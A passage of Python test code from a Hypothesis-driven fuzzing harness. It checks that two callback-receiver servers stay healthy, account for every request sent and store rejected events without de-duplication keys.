            if found.fetchone() is None:
                problems.append("200 for a duplicate of nothing stored")
        return problems

    async def final_problems(self) -> list[str]:
        """After a run: both receivers still healthy, and every request accounted for."""
        assert self.http is not None
        problems: list[str] = []
        for target, server in self.servers.items():
            try:
                async with self.http.get(server.base_url + "/healthz") as resp:
                    if resp.status != 200:
                        problems.append(f"{target}: /healthz answered {resp.status}")
                        continue
                    health = await resp.json()
            except (TimeoutError, aiohttp.ClientError) as exc:
                problems.append(f"{target}: /healthz unreachable: {exc!r}")
                continue
            counted = health["callbacks_received"] + health["rejected"] + health["bad_requests"]
            if counted != self.sent[target] or health["storage_errors"]:
                problems.append(
                    f"{target}: {self.sent[target]} requests sent, health says {health}"
                )
        return problems


def _rejected_event_problems(events: list[tuple[Any, ...]]) -> list[str]:
    if len(events) != 1:
        return [f"a rejected request kept {len(events)} events, not 1"]
    _, message_id, applied, verdict, reason, token, digest = events[0]
    if message_id is not None or applied or reason is None or verdict not in ("invalid", "missing"):
        return [f"rejected event stored as {events[0]}"]
    if token is not None or digest is not None:
        return [f"a rejected event took a de-duplication key: {events[0]}"]
    return []


def run_examples(
    runner: asyncio.Runner,
    harness: Harness,
    strategy: st.SearchStrategy[FuzzRequest],
    config: settings,
    report: Callable[[FuzzRequest, list[Violation]], None],
    *,
    seed: int | None = None,
) -> None:
    """Send each request Hypothesis draws from `strategy` and `report` what it broke.

    Hypothesis drives a plain function; each example runs on `runner`'s loop, which the
    servers also live on (they serve while the loop runs). A `report` that raises makes
    Hypothesis shrink to the smallest request that breaks the rule; one that records lets
    a long run count every violation.
    """

    @config
    @given(strategy)
    def one(request: FuzzRequest) -> None:
        report(request, runner.run(harness.exchange(request)))

    (one if seed is None else hypothesis_seed(seed)(one))()
